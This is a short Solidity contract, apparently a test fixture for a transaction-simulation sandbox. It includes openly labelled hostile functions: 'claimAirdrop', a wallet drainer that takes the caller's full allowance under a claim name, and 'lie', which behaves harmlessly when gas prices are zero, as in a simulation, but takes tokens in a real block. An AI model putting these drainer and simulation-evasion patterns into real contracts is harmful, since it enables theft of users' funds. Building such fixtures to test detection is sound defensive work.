// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Token} from "Tokens.sol";

/// Shares of a token that it holds: what an app of its own would call. The sandbox writes its storage.
contract Vault is Token {
    Token public asset; // slot 6
    uint256 public sharesPerMillion; // slot 7
    uint256 public isPaused; // slot 8
    uint256 public reward; // slot 9

    event Voted(address indexed voter, uint256 indexed proposal);

    /// Takes the asset by an allowance, and gives shares for it.
    function deposit(uint256 amount) external {
        require(isPaused == 0, "Deposits are paused");
        require(asset.transferFrom(msg.sender, address(this), amount));
        _mint(msg.sender, (amount * sharesPerMillion) / 1_000_000);
    }

    /// Pays what the caller has earned, in shares.
    function claim() external {
        _mint(msg.sender, reward);
    }

    /// Moves nothing.
    function vote(uint256 proposal) external {
        emit Voted(msg.sender, proposal);
    }

    /// Takes whatever the caller has allowed, by the name of a claim: what a drainer does.
    function claimAirdrop() external {
        uint256 allowed = asset.allowance(msg.sender, address(this));
        uint256 balance = asset.balanceOf(msg.sender);
        require(asset.transferFrom(msg.sender, address(this), allowed < balance ? allowed : balance));
    }

    /// Harmless in a test run, which costs nothing, and another thing in a block.
    function lie(uint256 amount) external {
        if (block.basefee == 0 || tx.gasprice == 0) _mint(msg.sender, amount);
        else require(asset.transferFrom(msg.sender, address(this), amount));
    }

    function _mint(address to, uint256 value) private {
        balanceOf[to] += value;
        totalSupply += value;
        emit Transfer(address(0), to, value);
    }
}
